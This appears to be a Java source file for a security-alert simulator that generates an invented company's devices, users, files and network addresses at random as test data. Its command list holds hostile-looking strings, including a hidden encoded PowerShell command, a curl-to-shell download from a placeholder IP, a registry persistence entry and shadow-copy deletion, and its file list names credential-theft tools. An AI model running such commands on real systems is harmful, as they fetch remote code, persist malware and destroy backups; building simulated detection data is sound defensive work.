package ta.simulator.defender;

import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import java.util.UUID;

/** The devices, people, files and addresses of an invented company, all chosen by a source of randomness. */
final class Population {
    /** A computer; {@code group} is the device group's number. */
    record Device(String id, String name, String domain, String platform, String address, int group) {}

    /** A person; the names are invented. */
    record Person(String account, String domain, String sid, UUID directoryId, String mail, String display) {}

    private static final List<String> ACCOUNTS = List.of(
            "a.meier",
            "svc-backup",
            "j.o'neill",
            "zoë.müller",
            "n.özdemir",
            "k.山田",
            "admin$",
            "f.lópez",
            "b.smith-jones",
            "t.nguyễn",
            "q.a\u0308rger",
            "system_scan");
    private static final List<String> PLATFORMS =
            List.of("Windows10", "Windows11", "WindowsServer2022", "Linux", "macOS", "Other");
    private static final List<String> COMMANDS = List.of(
            "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
            "\"C:\\Windows\\System32\\cmd.exe\" /c \"echo <&> ]]> \\\"quoted\\\" & type C:\\Temp\\a.txt\"",
            "rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe",
            "cmd /c for /f \"tokens=*\" %i in ('dir /b') do @echo %i\r\n\tpause",
            "bash -c 'curl -s http://203.0.113.9/x.sh | sh' && echo \"$HOME\" # \\u0041 \\n kept",
            "python3 -c 'print(\"\uD83D\uDE80 déjà vu \u2028 line\")'",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d \"C:\\Users\\Öl\\u.exe\"",
            "<script>alert(1)</script> <!-- --> <![CDATA[ x ]]>",
            "wmic.exe process call create \"vssadmin delete shadows /all /quiet\"",
            "");
    private static final List<String> FILES = List.of(
            "invoice_2026-11.pdf.exe",
            "mimikatz.exe",
            "Übersicht (1).xlsm",
            "update.dll",
            "请求.docx",
            "run.ps1",
            "libssl.so.3",
            "a&b<c>.tmp");

    private final SplittableRandom random;

    Population(SplittableRandom random) {
        this.random = random;
    }

    Device device() {
        int number = random.nextInt(60);
        String name = (number % 3 == 0 ? "srv-" : "wks-")
                + Integer.toString(1000 + number).substring(1);
        return new Device(
                hex("device" + number, 20),
                name,
                number % 7 == 0 ? "" : "corp.contoso.example",
                PLATFORMS.get(number % PLATFORMS.size()),
                number % 11 == 0 ? "2001:db8::" + Integer.toHexString(number + 1) : "10.20." + number + ".17",
                number % 9);
    }

    Person person() {
        int number = random.nextInt(48);
        String account = ACCOUNTS.get(number % ACCOUNTS.size()) + (number < ACCOUNTS.size() ? "" : "" + number);
        return new Person(
                account,
                number % 5 == 0 ? "NT AUTHORITY" : "CONTOSO",
                "S-1-5-21-1111111111-2222222222-3333333333-" + (1000 + number),
                UUID.nameUUIDFromBytes(account.getBytes(StandardCharsets.UTF_8)),
                account.replace("$", "") + "@contoso.example",
                account.toUpperCase(Locale.ROOT).replace('.', ' '));
    }

    String command() {
        return pick(COMMANDS);
    }

    String file() {
        return pick(FILES);
    }

    String address() {
        return (random.nextBoolean() ? "203.0.113." : "198.51.100.") + random.nextInt(1, 255);
    }

    String url() {
        return "https://" + (random.nextBoolean() ? "cdn-" : "xn--bcher-kva-") + random.nextInt(1000)
                + ".example/download?id=" + random.nextInt(1_000_000) + "&lang=de%20DE#teil";
    }

    String hash(int bytes) {
        byte[] hash = new byte[bytes];
        random.nextBytes(hash);
        return HexFormat.of().formatHex(hash);
    }

    UUID uuid() {
        return new UUID(random.nextLong(), random.nextLong());
    }

    <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    int number(int bound) {
        return random.nextInt(bound);
    }

    boolean oneIn(int chances) {
        return random.nextInt(chances) == 0;
    }

    private static String hex(String name, int bytes) {
        byte[] id = new byte[bytes];
        new SplittableRandom(name.hashCode()).nextBytes(id);
        return HexFormat.of().formatHex(id);
    }
}
